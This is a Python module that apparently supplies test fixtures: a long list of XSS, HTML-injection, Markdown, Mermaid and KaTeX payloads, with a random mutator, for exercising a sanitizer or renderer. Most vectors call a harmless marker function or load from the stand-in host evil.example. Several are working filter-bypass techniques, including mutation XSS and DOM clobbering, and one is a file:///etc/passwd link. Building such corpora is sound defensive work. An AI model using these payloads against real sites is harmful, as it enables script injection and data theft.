"""Texts written to run a script, to ask for something elsewhere, or to dress up as the page; and mutations of them.

Each calls `tripped(1)` where it runs, and asks `evil.example` where it loads. Does not test.
"""

import html
import itertools
import random
from collections.abc import Iterator

RUN = "tripped(1)"
EVIL = "//evil.example"

_HANDLERS = """
<img src=x onerror={run}>
<img src=x onerror="{run}">
<img src=x onerror='{run}'//
<img src=x:x onerror={run} />
<img/src=x/onerror={run}>
<IMG SRC=x OnErRoR={run}>
<img src onerror="{run}">
<img src=x onload={run} onerror={run}>
<img srcset=x onerror={run}>
<image src=x onerror={run}>
<img src=x onerror=eval("trip"+"ped(1)")>
<img src=x onerror=Function("{run}")()>
<img src=x onerror=setTimeout("{run}")>
<img src=x onerror=self["tripped"](1)>
<img src=x onerror=&#116;ripped(1)>
<img src=x onerror=\\u0074ripped(1)>
<svg onload={run}>
<svg/onload={run}>
<svg><script>{run}</script></svg>
<svg><script href="data:text/javascript,{run}"></script></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><set onbegin={run} attributename=x to=y>
<svg><animate xlink:href=#x attributeName=href values="javascript:{run}" /><a id=x><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:{run}"/><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{run}'/></svg>#x"/>
<svg><foreignObject><iframe onload={run}></iframe></foreignObject></svg>
<svg><style>@import '{evil}/s.css'</style></svg>
<svg><image href={evil}/i.png></svg>
<svg><feImage href={evil}/f.png></svg>
<svg><desc><img src=x onerror={run}></desc></svg>
<body onload={run}>
<body onpageshow={run}>
<body onhashchange={run}><a href=#x>x</a>
<html onmouseenter={run}>
<details open ontoggle={run}>
<details/open/ontoggle={run}><summary>x</summary></details>
<video onloadstart={run} src=x></video>
<video><source onerror={run}></video>
<video poster={evil}/p.png></video>
<audio src=x onerror={run}>
<audio src={evil}/a.mp3 autoplay></audio>
<track src={evil}/t.vtt>
<marquee onstart={run}>x</marquee>
<input autofocus onfocus={run}>
<select autofocus onfocus={run}></select>
<textarea autofocus onfocus={run}></textarea>
<button autofocus onfocus={run}>x</button>
<keygen autofocus onfocus={run}>
<input type=image src={evil}/i.png>
<input type=hidden popover onbeforetoggle={run}>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle={run}>y</p>
<p contenteditable autofocus onfocus={run}>x</p>
<p tabindex=0 autofocus onfocus={run}>x</p>
<style>@keyframes x{{}}</style><p style="animation:x" onanimationstart={run}>x</p>
<p style="transition:color 1s" ontransitionend={run}>x</p>
<p onwheel={run} onpointerover={run} onmouseover={run}>x</p>
<p oncontentvisibilityautostatechange={run} style="display:block;content-visibility:auto">x</p>
<dialog open onclose={run}><form method=dialog><button>x</button></form></dialog>
<template shadowrootmode=open><img src=x onerror={run}></template>
<p><template shadowrootmode=open><script>{run}</script></template></p>
<object data="javascript:{run}"></object>
<object data={evil}/o.swf></object>
<embed src="javascript:{run}">
<embed src={evil}/e.swf>
<applet code={evil}/a.class></applet>
<iframe src="javascript:{run}"></iframe>
<iframe srcdoc="<script>parent.{run}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.{run}&gt;"></iframe>
<iframe onload={run}></iframe>
<iframe src={evil}/></iframe>
<frameset onload={run}><frame src={evil}/></frameset>
<portal src={evil}/></portal>
<fencedframe></fencedframe>
<script>{run}</script>
<script src={evil}/x.js></script>
<script type=module>{run}</script>
<script type=importmap>{{"imports":{{"x":"{evil}/x.js"}}}}</script>
<script/x>{run}</script>
<ScRiPt>{run}</sCrIpT>
<script
>{run}</script
>
<<script>{run}//<</script>
<scr<script>ipt>{run}</scr</script>ipt>
<script>{run}
</script><script>{run}</script>
<noscript><p title="</noscript><img src=x onerror={run}>">
<noembed><img title="</noembed><img src=x onerror={run}>"></noembed>
<noframes><img title="</noframes><img src=x onerror={run}>"></noframes>
<xmp><p title="</xmp><img src=x onerror={run}>">
<plaintext><img src=x onerror={run}>
<listing>&lt;img src=x onerror={run}&gt;</listing>
<title><img title="</title><img src=x onerror={run}>"></title>
<textarea><img title="</textarea><img src=x onerror={run}>"></textarea>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='{run}'>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror={run}></style></annotation-xml></math>
<math href="javascript:{run}">x</math>
<math><maction actiontype="statusline#{evil}" xlink:href="javascript:{run}">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>
<svg></p><style><a id="</style><img src=1 onerror={run}>">
<svg><p><style><a title="</style><img src=x onerror={run}>"></a></style></p></svg>
<svg><title><style><img src=x onerror={run}></style></title></svg>
<!--><img src=x onerror={run}>-->
<!--><img src=x onerror={run}>
<!-- --!><img src=x onerror={run}> -->
<![CDATA[><img src=x onerror={run}>]]>
<?xml version="1.0"?><img src=x onerror={run}>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror={run}>">]>&y;
<a href="javascript:{run}">x</a>
<a href=" javascript:{run}">x</a>
<a href="java&Tab;script:{run}">x</a>
<a href="java&NewLine;script:{run}">x</a>
<a href="&#x6A;avascript:{run}">x</a>
<a href="javascript&colon;{run}">x</a>
<a href="javascript://%0a{run}">x</a>
<a href="JAVASCRIPT:{run}">x</a>
<a href="data:text/html,<script>{run}</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD50cmlwcGVkKDEpPC9zY3JpcHQ+">x</a>
<a href="vbscript:{run}">x</a>
<a href="blob:null/1">x</a>
<a href="filesystem:http://x/1">x</a>
<a href="{evil}/" ping="{evil}/ping">x</a>
<a href=# target=_top name=app id=app onclick={run}>x</a>
<area href="javascript:{run}"><map name=x><area href="javascript:{run}"></map>
<form action="javascript:{run}"><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:{run}">x</button>
<isindex action="javascript:{run}" type=image>
<base href="javascript:/a/"><a href="b/../{run}">x</a>
<base href="{evil}/">
<meta http-equiv=refresh content="0;url=javascript:{run}">
<meta http-equiv=refresh content="0;url={evil}/">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
<link rel=stylesheet href={evil}/s.css>
<link rel=prefetch href={evil}/p>
<link rel=preload as=image href={evil}/p>
<link rel=preconnect href={evil}>
<link rel=dns-prefetch href={evil}>
<link rel=modulepreload href={evil}/m.js>
<link rel=manifest href={evil}/m.json>
<link rel=icon href={evil}/f.ico>
<link rel=import href=x onerror={run}>
<style>@import url({evil}/s.css);</style>
<style>body{{background:url({evil}/b.png)}}</style>
<style>@font-face{{font-family:x;src:url({evil}/f.woff)}}*{{font-family:x}}</style>
<style>input[value^=a]{{background:url({evil}/a)}}</style>
<style>body{{display:none!important}}</style>
<div style="background:url({evil}/b.png)">x</div>
<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>
<div style="background-image:image-set('{evil}/b.png' 1x)">x</div>
<div style="width:expression({run})">x</div>
<table background={evil}/t.png><tr><td background={evil}/d.png>x</td></tr></table>
<picture><source srcset={evil}/s.png><img src={evil}/i.png></picture>
<img src={evil}/i.png loading=eager>
<img src={evil}/i.png srcset="{evil}/i2.png 2x">
<img longdesc={evil}/l dynsrc={evil}/d lowsrc={evil}/w>
<a id=defaultView name=documentElement>x</a><a id=document>x</a>
<form name=body><input name=parentNode><input name=attributes></form>
<img name=getElementById><img name=cookie><img name=implementation>
<form id=tripped><input name=toString></form>
<x onclick={run} onfocus={run} tabindex=1 id=x>custom</x>
<custom-element onconnected={run} is=x></custom-element>
<slot onslotchange={run}><p>x</p></slot>
<b onmouseover={run} class="fixed inset-0" data-testid=send role=dialog aria-label=Send>x</b>
<br size="&{{{run}}}">
<div/onclick={run}/style=x:expression({run})>
"><img src=x onerror={run}>
'><svg onload={run}>
`><img src=x onerror={run}>
</textarea><img src=x onerror={run}>
</title><svg onload={run}>
</style><script>{run}</script>
</script><script>{run}</script>
--><img src=x onerror={run}>
]]><img src=x onerror={run}>
{{{{constructor.constructor('{run}')()}}}}
${{{run}}}
<%= {run} %>
javascript:{run}
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+{run}//'>
"""

_MARKDOWN = """
[x](javascript:{run})
[x](JaVaScRiPt:{run})
[x]( javascript:{run})
[x](<javascript:{run}>)
[x](java&#x0A;script:{run})
[x](javascript&colon;{run})
[x](&#106;avascript:{run})
[x](javascript:%74ripped(1))
[x](data:text/html,<script>{run}</script>)
[x](vbscript:{run})
[x](file:///etc/passwd)
[x]({evil}/y)
[x](https:{evil}/ "><img src=x onerror={run}>")
[x](https:{evil}/"onmouseover="{run})
[x<img src=x onerror={run}>](https://a.example)
[https://good.example](https://good.example@evil.example/)
![x](https:{evil}/p.png)
![x](javascript:{run})
![x](data:image/svg+xml,<svg/onload={run}>)
![x" onerror="{run}](x)
![x](x" onerror="{run})
[![b](https:{evil}/b.svg)](https:{evil}/c)
![x][r]\\n\\n[r]: https:{evil}/r.png
[x][r]\\n\\n[r]: javascript:{run}
[r]: javascript:{run} "t"\\n\\n[r]
<javascript:{run}>
<https:{evil}/"onclick="{run}>
https:{evil}/<img/src=x/onerror={run}>
www.evil.example/"onmouseover="{run}
```html"><img src=x onerror={run}>\\n<script>{run}</script>\\n```
```"onload="{run}\\nx\\n```
```mermaid\\ngraph TD; A["<img src=x onerror={run}>"] --> B\\n```
```mermaid\\ngraph TD; A --> B; click A "javascript:{run}"\\n```
```mermaid\\ngraph TD; A --> B; click A call {run}\\n```
```mermaid\\n%%{{init: {{"securityLevel": "loose", "htmlLabels": true}}}}%%\\ngraph TD; A["<img src=x onerror={run}>"]\\n```
```mermaid\\n%%{{init: {{"themeCSS": "@import url(https:{evil}/s.css)"}}}}%%\\ngraph TD; A-->B\\n```
```mermaid\\nsequenceDiagram\\nA->>B: <img src=https:{evil}/i.png>\\nlink A: x @ javascript:{run}\\n```
```mermaid\\n---\\nconfig:\\n  securityLevel: loose\\n  themeCSS: "@import url(https:{evil}/s.css)"\\n---\\ngraph TD; A["<img src=x onerror={run}>"]\\n```
```mermaid\\ngraph TD; A-->B; style A fill:url(https:{evil}/x.svg),background:url(https:{evil}/y.png)\\n```
```mermaid\\ngraph TD; A --> B; click A "https:{evil}/" "tip" _self\\n```
```mermaid\\nclassDiagram\\nclass A\\nlink A "javascript:{run}"\\ncallback A "tripped"\\n```
```mermaid\\npie title <img src=x onerror={run}>\\n"<svg onload={run}>" : 3\\n```
```mermaid\\n%%{{init: {{"dompurifyConfig": {{"ADD_TAGS": ["script"], "ADD_ATTR": ["onerror"]}}}}}}%%\\ngraph TD; A["<img src=x onerror={run}>"]\\n```
`<img src=x onerror={run}>`
**<img src=x onerror={run}>**
# <img src=x onerror={run}>
> <img src=x onerror={run}>
- <img src=x onerror={run}>
- [ ] <svg onload={run}>
1. <svg onload={run}>
| <img src=x onerror={run}> |\\n|---|\\n| [x](javascript:{run}) |
x[^1]\\n\\n[^1]: <img src=x onerror={run}> [x](javascript:{run})
[^"><img src=x onerror={run}>]\\n\\n[^"><img src=x onerror={run}>]: x
$\\\\href{{javascript:{run}}}{{x}}$
$\\\\url{{javascript:{run}}}$
$\\\\includegraphics{{https:{evil}/k.png}}$
$\\\\htmlId{{app}}{{x}}\\\\htmlClass{{fixed}}{{x}}\\\\htmlStyle{{position:fixed}}{{x}}\\\\htmlData{{x=y}}{{x}}$
$$\\\\text{{<img src=x onerror={run}>}}$$
\\\\(<img src=x onerror={run}>\\\\)
\\\\[\\\\unicode{{<script>{run}</script>}}\\\\]
$\\\\def\\\\x{{\\\\x\\\\x}}\\\\x$
~~<img src=x onerror={run}>~~
<b>\\n\\n<img src=x onerror={run}>\\n\\n</b>
<!-- x\\n\\n<img src=x onerror={run}>
<script>\\n\\n{run}\\n\\n</script>
<img src="x` `<script>{run}</script>"` `>
&lt;img src=x onerror={run}&gt;
\\\\<img src=x onerror={run}>
"""


def _read(lines: str) -> list[str]:
    found = [line.replace("\\n", "\n").replace("\\\\", "\\") for line in lines.strip().splitlines()]
    return [vector.replace("{{", "{").replace("}}", "}") for vector in _filled(found)]


def _filled(vectors: list[str]) -> Iterator[str]:
    for vector in vectors:
        yield vector.replace("{run}", RUN).replace("{evil}", EVIL)


VECTORS = [*_read(_HANDLERS), *_read(_MARKDOWN)]


def mutations(count: int, seed: int) -> list[str]:
    """Return so many vectors changed at random: cut, nested, encoded, joined with another."""
    chance = random.Random(seed)  # noqa: S311 - the same each time
    return [_mutate(chance) for _ in range(count)]


def _mutate(chance: random.Random) -> str:
    one, other = chance.choice(VECTORS), chance.choice(VECTORS)
    cut = chance.randrange(len(one) + 1)
    space = chance.choice(["\t", "\f", "\u00a0", "\u200b", "\u2028", "/", "\x0b", " \n"])
    return chance.choice(
        [
            one[:cut] + other,
            one[:cut] + other + one[cut:],
            one[:cut] + chance.choice("<>\"'`=&;/\\*_[]()$|\n") + one[cut:],
            one.replace(" ", space),
            "".join(itertools.chain.from_iterable((char, "") for char in one.swapcase())).replace(
                RUN.swapcase(), RUN
            ),
            html.escape(one[:cut]) + one[cut:],
            f"<details open><summary>{one}</summary>{other}</details>",
            f"| {one} | {other} |\n|---|---|\n| {other} | {one} |",
            f"- {one}\n  - {other}\n\n    {one}",
            f"> [{one}]({other})",
            f"**{one}** *{other}* ~~{one}~~ `{other}",
            f"<b title='{one}'>{other}</b>",
            f"<svg><desc>{one}</desc></svg><math><mtext>{other}</mtext></math>",
        ]
    )
